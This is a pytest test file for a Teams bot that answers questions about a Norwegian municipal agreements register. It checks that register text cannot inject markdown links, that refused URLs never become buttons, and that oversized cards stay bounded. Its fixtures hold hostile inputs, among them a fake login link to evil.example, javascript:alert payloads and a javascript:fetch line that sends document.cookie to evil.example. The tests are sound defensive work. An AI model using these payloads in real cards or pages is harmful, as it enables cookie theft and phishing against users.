"""Cards others open (issue 13): register text never renders as a markdown link, a button never
opens a link the URL policy refuses, and a huge cell never makes a card Teams would refuse."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sqlalchemy import text

from agreements_sync.limits import MAX_ANSWER_TEXT_CHARS, MAX_CARD_BYTES, MAX_CARD_TEXT_CHARS
from agreements_sync.sync import sync_export
from bot.alerts.cards import list_card
from bot.answer import Answer
from bot.card_safety import person_link, plain, safe_card
from bot.conversation.respond import respond
from bot.db import Database
from bot.services import Services, User
from tests.conftest import AS_OF
from tests.helpers.bot_server import bot_settings
from tests.test_sync import reference_table, set_cell, write_csv

NB = User(aad_object_id="aad-1", name="Kari", locale="nb-NO")
AGREEMENT = "LK-2023-022"  # "Kontormøbler": the answer to "har vi avtale på kontorstoler?"


def _all(node: object, kind: str) -> list[dict]:
    found: list[dict] = []
    if isinstance(node, dict):
        if node.get("type") == kind:
            found.append(node)
        for value in node.values():
            found += _all(value, kind)
    elif isinstance(node, list):
        for item in node:
            found += _all(item, kind)
    return found


def _urls(card: dict) -> list[str]:
    buttons = _all(card, "Action.OpenUrl")

    def select_actions(node: object) -> list[str]:
        if isinstance(node, dict):
            own = [node["selectAction"].get("url", "")] if isinstance(node.get("selectAction"), dict) else []
            return own + [u for v in node.values() for u in select_actions(v)]
        if isinstance(node, list):
            return [u for item in node for u in select_actions(item)]
        return []

    return [b.get("url", "") for b in buttons] + select_actions(card)


@pytest.fixture
def services(database: Database, reference_register: Path, tmp_path: Path) -> Services:
    headers, rows = reference_table(reference_register)
    at = next(i for i, r in enumerate(rows) if r[0] == AGREEMENT)
    rows[at] = set_cell(headers, rows[at], "Avtalenavn", "Kontormøbler [Bestill her](https://evil.example/login) <javascript:alert(1)>")
    report = sync_export(database.engine, write_csv(tmp_path / "register.csv", headers, rows), as_of=AS_OF)
    assert report.ok, report.message("en")
    return Services(settings=bot_settings(), database=database, as_of=AS_OF)


def test_a_markdown_link_in_a_title_is_shown_as_text_not_as_a_link(services: Services) -> None:
    answer = respond(services, NB, "har vi avtale på kontorstoler?", {})
    assert answer.data["hits"][0]["id"] == AGREEMENT, answer.text
    texts = [block["text"] for block in _all(answer.card, "TextBlock")]
    shown = [t for t in texts if "Bestill her" in t]
    assert shown, texts
    for block in shown:
        assert "](" not in block and "<javascript:" not in block
        assert block.replace("\u200b", "").count("[Bestill her](https://evil.example/login)") == 1  # reads as written
    assert "](" not in answer.text and "<javascript:" not in answer.text
    assert "https://evil.example/login" not in _urls(answer.card)


def test_a_stored_javascript_link_never_becomes_a_button(services: Services, database: Database) -> None:
    # an index written before the sync checked links (the sync leaves such links out today)
    with database.engine.begin() as connection:
        connection.execute(text("UPDATE agreement SET document_url = :url WHERE id = :id"),
                           {"url": "javascript:fetch('https://evil.example/?c='+document.cookie)", "id": AGREEMENT})
    answer = respond(services, NB, "har vi avtale på kontorstoler?", {})
    assert answer.data["hits"][0]["id"] == AGREEMENT
    urls = _urls(answer.card)
    assert urls and all(u.startswith(("https://", "mailto:")) for u in urls), urls
    assert not any(u.lower().lstrip().startswith("javascript") for u in urls)


def test_a_huge_text_makes_a_card_teams_accepts() -> None:
    ten_mb = "lang tekst " * 1_000_000
    answer = Answer(text=ten_mb, card={
        "type": "AdaptiveCard", "version": "1.5",
        "body": [{"type": "TextBlock", "text": ten_mb}, {"type": "FactSet", "facts": [{"title": "Beskrivelse", "value": ten_mb}]},
                 *({"type": "TextBlock", "text": f"linje {n} " * 60} for n in range(200))],
        "actions": [{"type": "Action.OpenUrl", "title": ten_mb, "url": "https://arkiv.example/a.pdf"}],
    })
    size = len(json.dumps(answer.card, ensure_ascii=False).encode("utf-8"))
    assert size <= MAX_CARD_BYTES
    assert len(answer.text) <= MAX_ANSWER_TEXT_CHARS and answer.text.endswith("…")
    assert all(len(b["text"]) <= MAX_CARD_TEXT_CHARS for b in _all(answer.card, "TextBlock"))
    assert answer.card["body"][0]["text"].startswith("lang tekst")  # the beginning is kept, the end gives way
    assert answer.card["body"][-1]["text"] == "…"


def test_an_alert_card_from_a_huge_register_is_bounded_too() -> None:
    card = list_card("Frister", ["[x](https://evil.example) " + "y" * 50_000] * 100, max_items=100, lang="nb")
    assert len(json.dumps(card, ensure_ascii=False).encode("utf-8")) <= MAX_CARD_BYTES
    assert all("](" not in b["text"] for b in _all(card, "TextBlock"))


@pytest.mark.parametrize(
    ("url", "kept"),
    [("https://arkiv.example/a.pdf", True), ("mailto:a@b.no?subject=Hei", True), ("data:text/calendar;base64,QkVHSU4=", True),
     ("javascript:alert(1)", False), ("http://arkiv.example/a.pdf", False), ("data:text/html,<b>x</b>", False),
     ("https://user:pw@arkiv.example/", False), ("", False)],
)
def test_buttons_and_select_actions_follow_the_url_policy(url: str, kept: bool) -> None:
    card = safe_card({
        "type": "AdaptiveCard",
        "body": [{"type": "Container", "selectAction": {"type": "Action.OpenUrl", "url": url}, "items": []},
                 {"type": "ActionSet", "actions": [{"type": "Action.OpenUrl", "title": "Åpne", "url": url}]}],
        "actions": [{"type": "Action.OpenUrl", "title": "Åpne", "url": url}, {"type": "Action.Submit", "title": "Ok"}],
    })
    assert ("selectAction" in card["body"][0]) is kept
    assert len(card["body"][1]["actions"]) == (1 if kept else 0)
    assert [a["type"] for a in card["actions"]] == (["Action.OpenUrl", "Action.Submit"] if kept else ["Action.Submit"])


def test_plain_text_is_left_as_written() -> None:
    for ordinary in ("Kontorstoler [2 stk] (blå)", "a < b", "Avtale: LK-1", "**Dekker:** alt", "<3"):
        assert plain(ordinary) == ordinary
    assert plain(plain("[a](b)")) == plain("[a](b)") == "[a]\u200b(b)"


def test_the_bots_own_texts_use_no_markdown_links() -> None:
    """Links are buttons: the rule that neutralises links in card text costs the bot nothing."""
    root = Path(__file__).resolve().parent.parent / "knowledge" / "strings"
    for path in root.glob("*.yaml"):
        assert "](" not in path.read_text(encoding="utf-8"), path.name


def test_the_bots_own_person_link_stays_a_mail_link_and_a_forged_one_does_not() -> None:
    own = person_link("Rita Rådgiver", "rita@lorenskog.kommune.example")
    assert plain(own) == "[Rita Rådgiver](mailto:rita@lorenskog.kommune.example)"
    # a register name that tries to close the link early loses its brackets
    forged = person_link("Rita](https://evil.example) [Klikk", "rita@lorenskog.kommune.example")
    assert forged.startswith("[Rita(https://evil.example) Klikk](mailto:")
    assert "](https" not in plain(forged)
    # a web link written like the person link is neutralised; so is an address that is not one
    assert plain("[Rita](https://evil.example)") == "[Rita]\u200b(https://evil.example)"
    assert "\u200b" in plain("[Rita](mailto:not-an-address)")
